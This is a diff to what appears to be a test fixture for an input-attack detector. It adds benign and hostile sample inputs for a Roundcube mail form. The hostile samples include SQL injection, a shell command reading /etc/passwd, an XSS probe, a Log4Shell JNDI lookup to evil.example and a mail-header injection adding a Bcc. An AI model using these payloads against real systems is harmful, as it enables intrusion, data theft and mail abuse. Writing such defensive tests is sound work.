@@ -129,6 +129,27 @@ const KINDS: HonestKinds = {
       sent({ ignore: ['; cat /etc/passwd'] }),
     ],
   },
+  'a mail that is written in Roundcube': {
+    honest: [
+      filled({
+        _message: 'Hello Bob,\n\nsee http://localhost:3000/a?b=1 and /etc/hosts.\n\n-- \nAnn',
+        _subject: 'x',
+      }),
+      filled({ _message: "Hi,\nthe slow query is\nSELECT a FROM b WHERE c = 'x' AND d != 'y';\nAnn" }),
+      filled({ _message: 'Please look at /etc/hosts, it is short' }),
+      filled({ _text: "SELECT * FROM t WHERE a = 'x'; -- ok", _name: 'query' }),
+      filled({ _notes: 'the file is /etc/hosts' }),
+    ],
+    attacks: [
+      filled({ _message: "' or 1=1-- " }),
+      filled({ _message: '; cat /etc/passwd' }),
+      filled({ _message: '<script>alert(1)</script>' }),
+      filled({ _message: 'Hi\n$' + '{jndi:ldap://evil.example/a}' }),
+      filled({ _subject: 'Hi\nBcc: all@example.com\n\n/etc/passwd; cat /etc/passwd' }),
+      filled({ _from: 'see /etc/hosts' }),
+      filled({ _uid: "' or 1=1-- " }),
+    ],
+  },
   'files that an editor of Jupyter opens': {
     honest: [
       asked('/edit/.env', {}),
